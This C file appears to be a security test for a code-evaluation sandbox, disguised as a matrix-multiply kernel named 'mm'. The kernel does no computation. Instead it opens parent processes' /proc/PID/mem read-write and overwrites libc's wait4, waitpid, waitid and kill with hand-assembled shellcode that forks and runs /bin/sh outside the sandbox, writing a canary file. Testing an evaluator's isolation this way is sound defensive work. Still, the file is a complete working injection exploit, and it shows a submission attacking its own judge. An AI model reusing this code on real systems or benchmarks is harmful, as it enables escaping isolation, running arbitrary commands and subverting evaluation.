/*
 * ATTACK escape_proc_mem — take over the worker through /proc/PID/mem.
 * The runner is a fork of the worker (eval/cpu/cpu.c: run_runner), so libc sits
 * at the same address in both, and the worker runs without seccomp. The
 * kernel opens /proc/<parent>/mem read-write (root may, and so may any
 * same-uid process where ptrace is not restricted) and writes shellcode over
 * libc's wait4, which the worker calls every 100 ms while it watches the
 * runner (and over waitpid, waitid and kill, at addresses relocated through
 * /proc/PID/maps should the parent not be the runner's fork). The worker
 * then runs /bin/sh, outside every sandbox, which writes into the test's
 * canary file. Every other ancestor's mem file is only
 * opened read-write (and closed again): proof enough, and harmless here.
 * The kernel itself writes no output.
 * Stopped by: an unprivileged candidate that is not the judge's child in a
 * ptrace sense (own uid or user namespace, not dumpable, no_new_privs), its
 * own mount view without the judge's /proc, seccomp (issue 10, item 2).
 * integrity: expect=any
 * integrity: escapes=unisolated/user
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#ifndef INTEGRITY_ROOT
#define INTEGRITY_ROOT "/nonexistent-integrity-root"
#endif

/* Ancestors are walked only below the test's driver (its pid comes in
 * -DINTEGRITY_DRIVER), so nothing outside the test is ever read or touched;
 * without it, at most the three nearest (judge, worker, engine). */
#ifndef INTEGRITY_DRIVER
#define INTEGRITY_DRIVER 0
#endif
#define ANCESTOR_OK(pid, depth)                                                                    \
    ((pid) > 1 && (pid) != INTEGRITY_DRIVER && (depth) < (INTEGRITY_DRIVER ? 8 : 3))

/* Code and data placed at `at` in the target: fork; the child leaves the
 * worker's session and runs /bin/sh -c cmd; the parent exits. */
/* A step that worked is reported on stdout and stderr with this marker, and
 * the kernel then fails on purpose, so its output is kept as the log: the
 * test sees the escape even where it cannot see the effect (a private
 * mount view, a namespace). */
static int escapes;
static void escaped(const char *fmt, ...)
{
    char line[1024];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(line, sizeof line, fmt, ap);
    va_end(ap);
    printf("INTEGRITY-ESCAPE: %s\n", line);
    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
    fflush(stdout);
    escapes++;
}

static size_t build_payload(unsigned char *buf, uintptr_t at)
{
    static const char cmd[] = "echo 'escaped through /proc/PID/mem' >> " INTEGRITY_ROOT "/canary";
    memset(buf, 0x90, 512);
    size_t data = 96, sh = data, dash_c = sh + 8, text = dash_c + 3;
    size_t argv = (text + sizeof cmd + 7) & ~(size_t)7;
    memcpy(buf + sh, "/bin/sh", 8);
    memcpy(buf + dash_c, "-c", 3);
    memcpy(buf + text, cmd, sizeof cmd);
    uint64_t ptrs[4] = {at + sh, at + dash_c, at + text, 0};
    memcpy(buf + argv, ptrs, sizeof ptrs);
    unsigned char *p = buf;
    *p++ = 0xb8, *p++ = 57, *p++ = 0, *p++ = 0, *p++ = 0; /* mov eax, SYS_fork */
    *p++ = 0x0f, *p++ = 0x05;                             /* syscall */
    *p++ = 0x85, *p++ = 0xc0;                             /* test eax, eax */
    *p++ = 0x75;                                          /* jnz parent */
    unsigned char *jump = p++;
    *p++ = 0xb8, *p++ = 112, *p++ = 0, *p++ = 0, *p++ = 0; /* mov eax, SYS_setsid */
    *p++ = 0x0f, *p++ = 0x05;                              /* syscall: out of the worker's group */
    *p++ = 0xb8, *p++ = 59, *p++ = 0, *p++ = 0, *p++ = 0;  /* mov eax, SYS_execve */
    *p++ = 0x48, *p++ = 0xbf;                              /* movabs rdi, path */
    uint64_t v = at + sh;
    memcpy(p, &v, 8), p += 8;
    *p++ = 0x48, *p++ = 0xbe; /* movabs rsi, argv */
    v = at + argv;
    memcpy(p, &v, 8), p += 8;
    *p++ = 0x31, *p++ = 0xd2; /* xor edx, edx */
    *p++ = 0x0f, *p++ = 0x05; /* syscall */
    *jump = (unsigned char)(p - jump - 1);
    *p++ = 0xb8, *p++ = 60, *p++ = 0, *p++ = 0, *p++ = 0; /* parent: mov eax, SYS_exit */
    *p++ = 0x31, *p++ = 0xff;                             /* xor edi, edi */
    *p++ = 0x0f, *p++ = 0x05;                             /* syscall */
    return argv + sizeof ptrs;
}

static pid_t parent_of(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *close_paren = strrchr(buf, ')');
    int ppid = 0;
    if (close_paren)
        sscanf(close_paren + 1, " %*c %d", &ppid);
    return ppid;
}

/* Start of the first mapping of libc in /proc/<pid>/maps ("self" for 0), or 0.
 */
static uintptr_t libc_base(pid_t pid)
{
    char path[64], line[512];
    if (pid)
        snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    else
        snprintf(path, sizeof path, "/proc/self/maps");
    FILE *f = fopen(path, "r");
    uintptr_t base = 0;
    while (f && !base && fgets(line, sizeof line, f))
        if (strstr(line, "/libc.so") || strstr(line, "/libc-"))
            sscanf(line, "%lx-", &base);
    if (f)
        fclose(f);
    return base;
}

/*
 * Shellcode over the functions a supervising process calls while it waits
 * for its child (wait4, waitpid, waitid) or ends it (kill), each at its
 * address in the target: the runner's own address when the target is its
 * fork (today), relocated by the two libc bases when it is not.
 */
static void inject(int fd, pid_t pid)
{
#if defined(__x86_64__)
    static const char *const names[] = {"wait4", "waitpid", "waitid", "kill"};
    uintptr_t mine = libc_base(0), theirs = libc_base(pid);
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        void *sym = dlsym(RTLD_DEFAULT, names[i]);
        if (!sym)
            continue;
        uintptr_t at = (uintptr_t)sym;
        if (mine && theirs)
            at = at - mine + theirs;
        unsigned char code[512];
        size_t len = build_payload(code, at);
        if (pwrite(fd, code, len, (off_t)at) == (ssize_t)len)
            escaped("wrote shellcode over %s in process %d", names[i], (int)pid);
    }
#else
    (void)fd, (void)pid;
#endif
}

static void attack(void)
{
    static int done;
    if (done++)
        return;
    pid_t parent = getppid();
    for (pid_t pid = parent, depth = 0; ANCESTOR_OK(pid, depth); pid = parent_of(pid), depth++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        if (fd < 0)
            continue;
        escaped("opened %s read-write", path);
        if (pid == parent) /* the others: the open is proof enough */
            inject(fd, pid);
        close(fd);
    }
    usleep(300 * 1000); /* the worker polls every 100 ms, then calls wait4 */
}

void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *C)
{
    (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
    attack();
    if (escapes)
        abort();
}
